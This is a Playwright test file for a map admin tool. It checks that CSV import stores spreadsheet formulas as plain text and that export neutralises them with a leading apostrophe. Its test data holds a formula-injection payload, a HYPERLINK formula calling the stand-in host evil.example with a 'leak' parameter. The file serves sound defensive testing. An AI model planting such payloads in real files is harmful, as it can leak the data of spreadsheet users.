import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { expect, test } from './support/fixtures';
import { logIn, uploadUsaMap } from './support/admin';

test('a CSV export writes formula cells as text, and importing such a file stores the formulas as plain text', async ({ page, server }) => {
  await logIn(page, server.url);
  const mapId = await uploadUsaMap(page);
  const hostile = '=HYPERLINK("https://evil.example/?leak=1","Open")';
  const imported = Papa.unparse({ fields: ['id', 'Title'], data: [['1', hostile], ['2', "'+SUM(1)"], ['3', 'Store 3']] });
  await page.goto(`${server.url}/admin/#/maps/${mapId}/import`);
  await page.getByLabel('CSV file').setInputFiles({ name: 'stores.csv', mimeType: 'text/csv', buffer: Buffer.from(imported) });
  await expect(page.getByText('3 rows found.')).toBeVisible();
  await expect(page.getByLabel('Field for column Title')).toHaveValue('title', { timeout: 30_000 });
  await page.getByRole('button', { name: 'Import 3 rows' }).click();
  await expect(page.locator('.admin-import-report')).toContainText('3 rows imported', { timeout: 30_000 });

  // The apostrophe a previous export put in front of "+SUM(1)" is taken off on import.
  await page.getByRole('link', { name: 'Records' }).click();
  await expect(page.getByRole('row', { name: /\+SUM\(1\)/ })).toBeVisible();
  await expect(page.getByRole('row', { name: /\+SUM\(1\)/ })).not.toContainText("'+SUM");

  await page.getByRole('link', { name: 'Import / export' }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const exported = Papa.parse<Record<string, string>>(readFileSync(await (await download).path(), 'utf8'), { header: true, skipEmptyLines: true }).data;
  const titles = Object.fromEntries(exported.map((row) => [row.id, row.title]));
  expect(titles).toEqual({ 1: `'${hostile}`, 2: "'+SUM(1)", 3: 'Store 3' });
});
